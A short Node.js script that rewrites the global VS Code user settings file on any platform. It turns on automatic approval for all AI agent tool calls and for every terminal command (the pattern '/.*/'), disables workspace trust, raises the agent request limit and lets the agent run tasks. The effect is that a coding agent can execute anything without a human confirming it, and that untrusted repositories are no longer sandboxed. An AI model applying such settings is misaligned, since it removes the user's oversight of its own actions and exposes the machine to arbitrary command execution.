const fs = require("fs");
const os = require("os");
const path = require("path");

const candidates = {
  linux: path.join(os.homedir(), ".config", "Code", "User", "settings.json"),
  darwin: path.join(os.homedir(), "Library", "Application Support", "Code", "User", "settings.json"),
  win32: path.join(process.env.APPDATA || "", "Code", "User", "settings.json"),
};
const file = candidates[process.platform];
let cfg = {};
try {
  cfg = JSON.parse(fs.readFileSync(file, "utf8"));
} catch {}

Object.assign(cfg, {
  "chat.tools.autoApprove": true,
  "chat.tools.global.autoApprove": true,
  "chat.tools.terminal.autoApprove": { "/.*/": true },
  "chat.agent.maxRequests": 500,
  "security.workspace.trust.enabled": false,
  "github.copilot.chat.agent.runTasks": true,
});
fs.mkdirSync(path.dirname(file), { recursive: true });
fs.writeFileSync(file, JSON.stringify(cfg, null, 2));
console.log("agent settings applied to", file);
